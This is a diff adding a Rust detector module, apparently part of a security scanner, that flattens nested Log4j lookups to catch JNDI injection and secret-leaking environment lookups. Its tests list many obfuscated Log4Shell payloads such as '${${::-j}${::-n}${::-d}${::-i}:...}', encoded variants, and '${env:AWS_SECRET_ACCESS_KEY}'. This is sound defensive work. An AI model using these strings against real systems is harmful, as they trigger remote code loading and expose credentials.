@@ -1,0 +1,165 @@
+//! Lookups of Log4j: `${jndi:…}` in all the ways that lookups in lookups can spell it.
+//!
+//! The text is flattened as Log4j does it, from the inside out: `${lower:J}` is `j`, `${::-n}`
+//! and `${env:NONE:-n}` are `n`, any other lookup is taken as empty.
+use crate::finding::Match;
+use crate::text::{Classes, Text};
+use crate::work::Work;
+
+/// What wakes it: all classes of one entry.
+pub(crate) const WAKE: &[Classes] =
+    &[Classes::DOLLAR.with(Classes::BRACE).with(Classes::COLON).with(Classes::OPENER)];
+/// What wakes it whatever the classes; in lower case, at least four bytes each.
+pub(crate) const LITERALS: &[&str] = &[];
+
+/// Lookups in lookups that are followed; deeper ones are an attack by themselves.
+const DEPTH_MAX: usize = 32;
+
+/// Judges one decoding of a text.
+pub(crate) fn inspect(text: &Text<'_>, work: &mut Work) -> Option<Match> {
+    work.spend(3 * text.lower.len() as u64).ok()?;
+    let mut flattened = Flattened::default();
+    let mut rest = text.lower;
+    while let Some((&byte, after)) = rest.split_first() {
+        rest = after;
+        match byte {
+            b'$' if after.first() == Some(&b'{') => {
+                rest = after.get(1..).unwrap_or_default();
+                flattened.open.push(flattened.out.len());
+                if flattened.open.len() > DEPTH_MAX {
+                    return Some(Match::high("nested-lookups"));
+                }
+            }
+            b'}' => {
+                if let Some(found) = flattened.close() {
+                    return Some(found);
+                }
+            }
+            _ => flattened.out.push(byte),
+        }
+    }
+    // A lookup that is not closed here may be closed by what the text is put into.
+    let last = flattened.open.iter().find_map(|&start| judge(flattened.out.get(start..)?));
+    last.or_else(|| flattened.is_obfuscated().then(|| Match::medium("obfuscated-lookup")))
+}
+
+/// The text as far as it was read, and where the open lookups start in it.
+#[derive(Default)]
+struct Flattened {
+    out: Vec<u8>,
+    open: Vec<usize>,
+    /// How many lookups gave a single character: nobody but an attacker needs them.
+    letters: usize,
+}
+
+impl Flattened {
+    /// Puts its value in the innermost lookup's place.
+    fn close(&mut self) -> Option<Match> {
+        let Some(start) = self.open.pop() else {
+            self.out.push(b'}');
+            return None;
+        };
+        let content = self.out.get(start..).unwrap_or_default();
+        let found = judge(content);
+        let value = value(content).to_vec();
+        if value.len() == 1 {
+            self.letters += 1;
+        }
+        self.out.truncate(start);
+        // The dotless i has the usual one as its capital.
+        if value == "ı".as_bytes() {
+            self.out.push(b'i');
+        } else {
+            self.out.extend_from_slice(&value);
+        }
+        found
+    }
+
+    fn is_obfuscated(&self) -> bool {
+        self.letters >= 3
+    }
+}
+
+/// Whether a lookup's content asks a directory.
+fn judge(content: &[u8]) -> Option<Match> {
+    let content = content.trim_ascii();
+    let is_jndi = content.strip_prefix(b"jndi").map(<[u8]>::trim_ascii_start);
+    if is_jndi.is_some_and(|rest| rest.starts_with(b":")) {
+        return Some(Match::high("jndi-lookup"));
+    }
+    // What gives the environment's secrets away when it is logged.
+    let leaks: [&[u8]; 4] = [b"env:aws_", b"sys:aws.", b"env:tollgate_", b"env:lambda_"];
+    leaks.iter().any(|leak| content.starts_with(leak)).then(|| Match::medium("environment-lookup"))
+}
+
+/// What a lookup stands for.
+fn value(content: &[u8]) -> &[u8] {
+    if let Some(at) = content.windows(2).position(|pair| pair == b":-") {
+        return content.get(at + 2..).unwrap_or_default();
+    }
+    for case in [b"lower:".as_slice(), b"upper:"] {
+        if let Some(text) = content.strip_prefix(case) {
+            return text;
+        }
+    }
+    // A date's format may be a quoted text.
+    match content.strip_prefix(b"date:") {
+        Some(format) => {
+            format.strip_prefix(b"'").unwrap_or(format).strip_suffix(b"'").unwrap_or(format)
+        }
+        None => b"",
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use crate::{Families, Family, Role, Work, inspect_text};
+
+    fn is_found(text: &str) -> bool {
+        let mut found = false;
+        let families = Families::from_iter([Family::Log4j]);
+        let mut work = Work::default();
+        inspect_text(text.as_bytes(), Role::Value, families, &mut work, &mut |_| found = true)
+            .unwrap();
+        found
+    }
+
+    #[test]
+    fn every_spelling_of_the_lookup_is_found() {
+        for text in [
+            "${jndi:ldap://192.0.2.1/a}",
+            "x ${ jndi:rmi://a} y",
+            "${${lower:J}nd${upper:i}:dns://a}",
+            "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://a}",
+            "${${env:NONE:-j}ndi${env:NONE:-:}${env:NONE:-l}dap${env:NONE:-:}//a}",
+            "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://a}",
+            "${jnd${upper:ı}:ldap://a}",
+            "$${jndi:ldap://a}",
+            "${${date:'j'}ndi:ldap://a}",
+            "%24%7Bjndi%3aldap://a%7D",
+            "\\u0024{jndi:ldap://a}",
+            "&#36;{jndi:ldap://a}",
+            "${jndi:ldap://a",
+            "${${lower:${lower:j}}ndi:ldap://a",
+            "${env:AWS_SECRET_ACCESS_KEY}",
+            "${${::-a}${::-b}${::-c}}",
+        ] {
+            assert!(is_found(text), "{text}");
+        }
+    }
+
+    #[test]
+    fn other_templates_pass() {
+        for text in [
+            "${name}",
+            "Hello ${user.name}, it costs $5 {net}: thanks",
+            "${PATH:-/usr/bin}",
+            "${env:HOME}/bin",
+            "JNDI: the Java naming interface",
+            "}}}} ${a:b}",
+            "$ {jndi:ldap}",
+        ] {
+            assert!(!is_found(text), "{text}");
+        }
+    }
+}
